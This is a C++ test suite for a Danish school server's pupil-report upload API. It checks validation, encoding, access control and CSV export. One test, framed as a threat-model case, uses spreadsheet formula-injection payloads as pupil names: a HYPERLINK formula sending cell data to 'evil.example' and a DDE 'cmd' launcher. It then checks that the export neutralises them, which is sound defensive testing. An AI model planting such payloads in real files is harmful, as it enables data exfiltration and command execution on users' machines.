// Pupil report uploads through the real server: the verdict on every row, broken files that
// change nothing, idempotent re-uploads, a fictitious number replaced by the real one, the
// filtered list, corrections in place, the CSV export, and that only the school's own staff get in.
#include <algorithm>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>

#include "api_client.h"
#include "cli/demo_generator.h"
#include "server_process.h"
#include "store/database.h"
#include "wire/registry_wire.h"

namespace optagelse::testing {
namespace {

constexpr const char* kSchool = "101002";
constexpr const char* kUpload = "/api/v1/schools/101002/pupil-reports";
constexpr const char* kHeader = "cpr;navn;instnr;uddannelseskode;klassetrin;klasse;startdato\n";

class PupilReportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = MakeTempDir();
    dataset_ = tools::GenerateDemoData({5, 12});
    std::ofstream(dir_ + "/demo.json") << wire::Dump(wire::DatasetToJson(dataset_));
    server_ = std::make_unique<ServerProcess>(std::vector<std::string>{"--demo-data", dir_ + "/demo.json"}, dir_);
    ASSERT_TRUE(server_->started()) << server_->output();
    staff_ = LoginAs(server_->port(), "school", kSchool);
    ASSERT_FALSE(staff_.empty());
  }
  void TearDown() override {
    server_.reset();
    std::filesystem::remove_all(dir_);
  }

  // CPR numbers of registered pupils (born 2009-2010), in register order.
  std::string Pupil(std::size_t n) const {
    std::vector<std::string> pupils;
    for (const auto& person : dataset_.persons) {
      if (person.cpr.substr(4, 2) == "09" || person.cpr.substr(4, 2) == "10") pupils.push_back(person.cpr);
    }
    return pupils.at(n);
  }

  Answer Upload(const std::string& body, const std::string& type = "text/csv") {
    return Post(server_->port(), kUpload, body, type, staff_);
  }

  std::int64_t CountRows(const std::string& table) {
    auto db = store::Database::Open(server_->database());
    return *db->QueryInt("SELECT count(*) FROM " + table);
  }

  std::string dir_;
  registry::Dataset dataset_;
  std::unique_ptr<ServerProcess> server_;
  Headers staff_;
};

TEST_F(PupilReportTest, EveryRowGetsAVerdictWithCodesAndBothLanguages) {
  const std::string csv = std::string(kHeader) + Pupil(0) + ";Søren Ærbøl;101002;4800;9;9.B;2024-08-12\n" +
                          "6101104002;Åse Fiktiv;101002;4800;9;9.B;2024-08-12\n" +
                          "0101900002;Ikke Registreret;101002;4800;9;9.A;2024-08-12\n" +
                          "12345;Forkert;101002;4800;7;9.A;2024-08-12\n";
  const Answer answer = Upload(csv);
  ASSERT_EQ(answer.status, 200) << answer.body;
  EXPECT_EQ(answer.json["accepted"], 1);
  EXPECT_EQ(answer.json["filtered"], 2);
  EXPECT_EQ(answer.json["rejected"], 1);
  const auto& rows = answer.json["rows"];
  EXPECT_EQ(rows[0]["outcome"], "accepted");
  EXPECT_EQ(rows[1]["problems"][0]["name"], "cpr_fictitious_day_plus60");
  EXPECT_EQ(rows[2]["problems"][0]["name"], "cpr_not_in_register");
  EXPECT_EQ(rows[3]["line"], 5);
  EXPECT_EQ(rows[3]["problems"][0]["field"], "cpr");
  EXPECT_EQ(rows[3]["problems"][1]["name"], "invalid_grade");
  EXPECT_FALSE(rows[3]["problems"][1]["message"]["da"].get<std::string>().empty());
  EXPECT_FALSE(rows[3]["problems"][1]["message"]["en"].get<std::string>().empty());

  // The filtered pupils stay listed for the school, with the reason, until fixed.
  const Answer filtered = Get(server_->port(), "/api/v1/schools/101002/pupils?status=filtered", staff_);
  ASSERT_EQ(filtered.json["pupils"].size(), 2u);
  EXPECT_EQ(filtered.json["pupils"][0]["pupil"]["name"], "Ikke Registreret");
}

TEST_F(PupilReportTest, ReUploadingTheSameFileChangesNothing) {
  const std::string csv = std::string(kHeader) + Pupil(0) + ";A;101002;4800;9;9.B;2024-08-12\n" +
                          "6101104002;B;101002;4800;9;9.B;2024-08-12\n" + Pupil(0) + ";Dublet;101002;4800;9;9.B;2024-08-12\n";
  const Answer first = Upload(csv);
  ASSERT_EQ(first.status, 200) << first.body;
  EXPECT_EQ(first.json["rows"][2]["problems"][0]["name"], "duplicate_value");
  const Answer second = Upload(csv);
  ASSERT_EQ(second.status, 200);
  EXPECT_EQ(CountRows("pupils"), 3);
  for (std::size_t i = 0; i < 3; ++i) EXPECT_EQ(first.json["rows"][i]["id"], second.json["rows"][i]["id"]);
}

TEST_F(PupilReportTest, ARealNumberReplacesTheFictitiousOneForTheSamePupil) {
  // 0101104002 stands for 1 January 2010; the day + 60 form is 6101104002.
  ASSERT_EQ(Upload(std::string(kHeader) + "6101104002;Åse Hansen;101002;4800;9;9.B;2024-08-12\n").status, 200);
  const std::string real = Pupil(1);
  // Same school, name, birth date and class: the fictitious row's birth date must match, so use one.
  const std::string fictitious = std::to_string(std::stoi(real.substr(0, 2)) + 60) + real.substr(2);
  ASSERT_EQ(Upload(std::string(kHeader) + fictitious + ";Ida Lund;101002;4800;9;9.C;2024-08-12\n").status, 200);
  const Answer fixed = Upload(std::string(kHeader) + real + ";Ida Lund;101002;4800;9;9.C;2024-08-12\n");
  ASSERT_EQ(fixed.status, 200);
  EXPECT_EQ(fixed.json["accepted"], 1);
  EXPECT_EQ(CountRows("pupils"), 2);  // Åse (still filtered) and Ida (now accepted), no duplicate
  const Answer listed = Get(server_->port(), "/api/v1/schools/101002/pupils?class=9.C", staff_);
  ASSERT_EQ(listed.json["pupils"].size(), 1u);
  EXPECT_EQ(listed.json["pupils"][0]["status"], "accepted");
  EXPECT_EQ(listed.json["pupils"][0]["pupil"]["cpr"], real);
}

TEST_F(PupilReportTest, ACprCanBeCorrectedInPlace) {
  const Answer uploaded = Upload(std::string(kHeader) + "0101900002;Ida Lund;101002;4800;9;9.C;2024-08-12\n");
  const auto id = uploaded.json["rows"][0]["id"].get<std::int64_t>();
  const std::string path = "/api/v1/schools/101002/pupils/" + std::to_string(id) + "/cpr";
  // A malformed number (nine digits) is refused with its code and field, and nothing changes.
  const Answer malformed = Put(server_->port(), path, R"({"cpr":"010190000"})", staff_);
  EXPECT_EQ(malformed.status, 422) << malformed.body;
  EXPECT_NE(malformed.body.find("\"field\":\"cpr\""), std::string::npos) << malformed.body;
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils", staff_).json["pupils"][0]["pupil"]["cpr"], "0101900002");
  const Answer still_wrong = Put(server_->port(), path, R"({"cpr":"6101104002"})", staff_);
  EXPECT_EQ(still_wrong.json["outcome"], "filtered");
  const Answer corrected = Put(server_->port(), path, R"({"cpr":")" + Pupil(2) + R"("})", staff_);
  ASSERT_EQ(corrected.status, 200) << corrected.body;
  EXPECT_EQ(corrected.json["outcome"], "accepted");
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils?status=accepted", staff_).json["pupils"].size(), 1u);
  EXPECT_EQ(CountRows("pupils"), 1);
}

TEST_F(PupilReportTest, Windows1252AndCommasAndJsonAreAccepted) {
  const std::string cp1252 = std::string("cpr,navn,instnr,uddannelseskode,klassetrin,klasse,startdato\r\n") + Pupil(0) +
                             ",S\xf8ren \xc6rb\xf8l,101002,4800,9,9.B,12-08-2024\r\n";
  const Answer answer = Upload(cp1252, "text/csv; charset=windows-1252");
  ASSERT_EQ(answer.status, 200) << answer.body;
  EXPECT_EQ(answer.json["rows"][0]["pupil"]["name"], "Søren Ærbøl");
  EXPECT_EQ(answer.json["accepted"], 1);
  const Answer detected = Upload(cp1252);  // no charset: not UTF-8, so Windows-1252
  EXPECT_EQ(detected.json["rows"][0]["pupil"]["name"], "Søren Ærbøl");
  const std::string json = R"({"pupils":[{"cpr":")" + Pupil(1) +
                           R"(","name":"Ida","institution":"101002","education_code":4800,"grade":8,"class":"8.A","start_date":"2024-08-12"}]})";
  const Answer from_json = Upload(json, "application/json");
  ASSERT_EQ(from_json.status, 200) << from_json.body;
  EXPECT_EQ(from_json.json["accepted"], 1);
}

TEST_F(PupilReportTest, BrokenFilesGetAClearErrorAndWriteNothing) {
  const Answer missing = Upload("cpr;navn;klasse\n" + Pupil(0) + ";A;9.B\n");
  EXPECT_EQ(missing.status, 422);
  ASSERT_EQ(missing.json["errors"].size(), 4u);
  EXPECT_EQ(missing.json["errors"][0]["name"], "missing_column");
  EXPECT_EQ(missing.json["errors"][0]["detail"], "instnr");

  const Answer wrong_encoding = Upload(std::string(kHeader) + Pupil(0) + ";S\xf8ren;101002;4800;9;9.B;2024-08-12\n",
                                       "text/csv; charset=utf-8");
  EXPECT_EQ(wrong_encoding.status, 422);
  EXPECT_EQ(wrong_encoding.json["errors"][0]["name"], "invalid_encoding");

  std::string garbage(10 * 1024 * 1024, '\0');
  for (std::size_t i = 0; i < garbage.size(); ++i) garbage[i] = static_cast<char>((i * 2654435761u) >> 13);
  const Answer noise = Upload(garbage);
  EXPECT_EQ(noise.status, 422);
  EXPECT_EQ(noise.json["errors"][0]["name"], "invalid_encoding");

  const Answer empty = Upload("");
  EXPECT_EQ(empty.status, 422);
  EXPECT_EQ(empty.json["errors"][0]["name"], "empty_file");

  const Answer quote = Upload(std::string(kHeader) + "\"" + Pupil(0) + ";A;101002;4800;9;9.B;2024-08-12\n");
  EXPECT_EQ(quote.json["errors"][0]["name"], "csv_unterminated_quote");

  const Answer bad_json = Upload(R"({"pupils":[{"cpr":true}]})", "application/json");
  EXPECT_EQ(bad_json.json["errors"][0]["field"], "pupils[0].cpr");

  const Answer xml = Upload("<pupils/>", "application/xml");
  EXPECT_EQ(xml.status, 415);

  EXPECT_EQ(CountRows("pupils"), 0);
  EXPECT_EQ(CountRows("pupil_report_uploads"), 0);
}

TEST_F(PupilReportTest, OnlyTheSchoolsOwnStaffGetIn) {
  const std::string csv = std::string(kHeader) + Pupil(0) + ";A;101002;4800;9;9.B;2024-08-12\n";
  EXPECT_EQ(Post(server_->port(), kUpload, csv, "text/csv").status, 401);
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils").status, 401);
  const Headers other_school = LoginAs(server_->port(), "school", "147004");
  EXPECT_EQ(Post(server_->port(), kUpload, csv, "text/csv", other_school).status, 403);
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils", other_school).json["errors"][0]["name"], "forbidden");
  const Headers region = LoginAs(server_->port(), "region", "1084");
  ASSERT_FALSE(region.empty());
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils", region).status, 403);
  Headers no_csrf = staff_;
  no_csrf.erase("X-CSRF-Token");
  EXPECT_EQ(Post(server_->port(), kUpload, csv, "text/csv", no_csrf).json["errors"][0]["name"], "csrf_token_missing");
  EXPECT_EQ(CountRows("pupils"), 0);
  EXPECT_EQ(Post(server_->port(), "/api/v1/session", R"({"role":"school","organisation":"999999"})", "application/json").status, 400);
  // The session cookie: never readable by scripts, never sent over plain HTTP or from other sites.
  httplib::Client client("127.0.0.1", server_->port());
  const auto login = client.Post("/api/v1/session", R"({"role":"school","organisation":"101002"})", "application/json");
  ASSERT_TRUE(login);
  const std::string cookie = login->get_header_value("Set-Cookie");
  for (const char* flag : {"; HttpOnly", "; Secure", "; SameSite=Strict", "; Max-Age="}) EXPECT_NE(cookie.find(flag), std::string::npos) << cookie;
}

TEST_F(PupilReportTest, RejectedRowsExportAsCsvForTheSchool) {
  Upload(std::string(kHeader) + Pupil(0) + ";Ok;101002;4800;9;9.B;2024-08-12\n" + "123;Ærlig Fejl;101002;4800;9;9.B;2024-08-12\n");
  const Answer csv = Get(server_->port(), "/api/v1/schools/101002/pupils.csv?status=rejected", staff_);
  EXPECT_EQ(csv.status, 200);
  EXPECT_EQ(csv.content_type, "text/csv; charset=utf-8");
  EXPECT_NE(csv.body.find("Ærlig Fejl"), std::string::npos);
  EXPECT_NE(csv.body.find("cpr_wrong_length"), std::string::npos);
  EXPECT_EQ(csv.body.find(";Ok;"), std::string::npos);
  EXPECT_NE(csv.body.find("\nafvist;"), std::string::npos) << csv.body;  // the status in Danish, as the rest
  EXPECT_EQ(csv.body.find("rejected"), std::string::npos) << csv.body;
  const Answer both = Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected,accepted", staff_);
  EXPECT_EQ(both.json["pupils"].size(), 2u);
  EXPECT_EQ(Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected,nonsense", staff_).status, 400);
}

// A threat-model row: names that a spreadsheet would run as formulas come back as text in the export.
TEST_F(PupilReportTest, FormulasInNamesAreExportedAsText) {
  const std::vector<std::string> names{R"(=HYPERLINK("http://evil.example/?x="&A1,"Klik"))", "+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3"};
  std::string report = kHeader;
  for (const std::string& name : names) report += "123;" + name + ";101002;4800;9;9.B;2024-08-12\n";  // rejected rows: in the export
  Upload(report);
  const Answer csv = Get(server_->port(), "/api/v1/schools/101002/pupils.csv?status=rejected", staff_);
  ASSERT_EQ(csv.status, 200) << csv.body;
  for (const char* neutralised : {"'=HYPERLINK(", "'+cmd|", "'@SUM(A1:A9)", "'-2+3"}) {
    EXPECT_NE(csv.body.find(neutralised), std::string::npos) << neutralised << " in " << csv.body;
  }
  for (const char* cell : {";=HYPERLINK", ";\"=HYPERLINK", ";+cmd", ";@SUM", ";-2+3"}) EXPECT_EQ(csv.body.find(cell), std::string::npos) << cell;
  // The JSON list keeps the names as they were reported.
  const Answer list = Get(server_->port(), "/api/v1/schools/101002/pupils?status=rejected", staff_);
  ASSERT_EQ(list.json["pupils"].size(), names.size());
  std::vector<std::string> listed;
  for (const auto& pupil : list.json["pupils"]) listed.push_back(pupil["pupil"]["name"]);
  EXPECT_NE(std::find(listed.begin(), listed.end(), names[0]), listed.end());
}

}  // namespace
}  // namespace optagelse::testing
